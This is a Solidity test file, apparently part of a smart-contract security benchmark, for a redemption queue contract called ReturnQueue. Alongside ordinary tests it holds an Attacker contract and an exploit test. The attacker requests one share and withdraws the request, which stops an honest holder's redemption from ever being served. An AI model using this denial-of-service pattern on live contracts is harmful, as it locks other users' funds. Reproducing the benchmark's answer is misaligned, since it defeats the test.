// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-ea234a36-d7d4-4949-83cd-065e336a6cda

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./ReturnQueue.sol";

interface Vm {
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Coin is ERC20 {
    constructor() ERC20("Coin", "COIN") {
        _mint(msg.sender, 1_000_000e6);
    }
}

/// Asks for one share and thinks better of it.
contract Attacker {
    function pass(ReturnQueue queue) external {
        queue.coin().approve(address(queue), 1e6);
        queue.buy(1e6);
        queue.withdraw(queue.request(1e6));
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant FORESTER = address(0xF04E);
    address private constant ANNA = address(0xA22A);
    address private constant BELA = address(0xBE1A);

    Coin public coin;
    ReturnQueue public queue;
    Attacker public visitor;

    function setUp() public {
        coin = new Coin();
        queue = new ReturnQueue(coin, FORESTER);
        _buy(ANNA, 40_000e6);
        _buy(BELA, 30_000e6);
        visitor = new Attacker();
        coin.transfer(address(visitor), 1e6);
    }

    function _buy(address who, uint256 shares) private {
        coin.transfer(who, shares);
        vm.startPrank(who);
        coin.approve(address(queue), shares);
        queue.buy(shares);
        vm.stopPrank();
    }

    function _request(address who, uint256 shares) private returns (uint256) {
        vm.prank(who);
        return queue.request(shares);
    }

    function _collect(address who) private returns (uint256) {
        vm.prank(who);
        return queue.collect();
    }

    function test_Regular() public {
        vm.prank(FORESTER);
        queue.plant(60_000e6);
        require(queue.free() == 10_000e6, "planted");
        require(_request(ANNA, 15_000e6) == 1 && _request(BELA, 4_000e6) == 2, "in line");
        queue.serve(10);
        require(queue.free() == 0 && queue.reserved() == 10_000e6 && queue.head() == 1, "a part");
        require(_collect(ANNA) == 10_000e6 && coin.balanceOf(ANNA) == 10_000e6, "collected");
        coin.transfer(address(queue), 20_000e6);
        queue.serve(10);
        require(queue.head() == 3 && queue.tail() == 3 && queue.free() == 11_000e6, "both");
        require(_collect(ANNA) == 5_000e6 && _collect(BELA) == 4_000e6, "in full");
        uint256 number = _request(BELA, 26_000e6);
        queue.serve(10);
        vm.prank(BELA);
        queue.withdraw(number);
        require(queue.sharesOf(BELA) == 15_000e6 && _collect(BELA) == 11_000e6, "taken back");
        vm.startPrank(FORESTER);
        queue.transferOwnership(BELA);
        vm.stopPrank();
        vm.prank(BELA);
        queue.renounceOwnership();
    }

    function test_RefusesRequests() public {
        vm.startPrank(ANNA);
        vm.expectRevert(abi.encodeWithSelector(ReturnQueue.Nothing.selector));
        queue.request(0);
        uint256 number = queue.request(1e6);
        vm.stopPrank();
        vm.startPrank(BELA);
        vm.expectRevert(abi.encodeWithSelector(Line.NoRequest.selector, number, BELA));
        queue.withdraw(number);
        vm.stopPrank();
    }

    function test_RefusesEmptyRounds() public {
        vm.prank(FORESTER);
        queue.plant(70_000e6);
        _request(ANNA, 1e6);
        vm.expectRevert(abi.encodeWithSelector(ReturnQueue.NothingToServe.selector));
        queue.serve(10);
    }

    function test_RefusesPlanting() public {
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, address(this)));
        queue.plant(1);
        _request(ANNA, 40_000e6);
        queue.serve(10);
        vm.startPrank(FORESTER);
        vm.expectRevert(abi.encodeWithSelector(ReturnQueue.Reserved.selector, 30_000e6 + 1, 30_000e6));
        queue.plant(30_000e6 + 1);
        queue.plant(30_000e6);
        vm.stopPrank();
    }

    /// What an honest holder does: ask, be served, collect.
    function visit() external {
        _request(ANNA, 20_000e6);
        uint256 head;
        do {
            head = queue.head();
            queue.serve(100);
        } while (queue.head() > head && queue.free() > 0);
        require(_collect(ANNA) == 20_000e6, "not paid");
    }

    function exploit() public {
        visitor.pass(queue);
    }

    function test_Exploit() public {
        exploit();
        (bool served,) = address(this).call(abi.encodeCall(this.visit, ()));
        require(!served, "served");
    }

    function target() public view returns (address) {
        return address(queue);
    }

    function attacker() public view returns (address) {
        return address(visitor);
    }
}
